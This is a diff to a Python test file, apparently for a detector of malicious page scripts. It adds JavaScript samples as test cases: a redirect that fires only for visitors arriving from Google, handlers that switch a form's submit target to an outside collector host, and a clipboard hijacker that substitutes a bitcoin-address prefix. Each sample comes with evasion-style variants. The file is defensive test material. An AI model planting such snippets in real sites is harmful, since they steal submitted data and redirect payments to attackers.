@@ -264,12 +264,24 @@ def test_disguised_address_of_a_socket_is_one_of_another_site() -> None:
             ("https://pillole.test/", "/it/"),
         ),
         (
+            "var r=document.referrer;if(/google/.test(r)){location='https://pillole.test/'}",
+            ("if(", "count(r);function leave(){}if("),
+        ),
+        (
             "f.addEventListener('submit',function(){f.action='https://zbieraj.test/g'})",
             ("https://zbieraj.test/g", "/g"),
         ),
         (
+            "f.onsubmit=function(){f.setAttribute('action','https://zbieraj.test/g')}",
+            ("f.onsubmit", "var f=document.createElement('form');f.onsubmit"),
+        ),
+        (
             "document.addEventListener('copy',e=>{e.clipboardData.setData('text/plain','bc1q');e.preventDefault()})",
             ("'bc1q'", "getSelection()+'bc1q'"),
+        ),
+        (
+            "document.addEventListener('copy',e=>{e.clipboardData.setData('text/plain','bc1q');e.preventDefault()})",
+            ("})", "});document.execCommand('copy')"),
         ),
     ],
 )
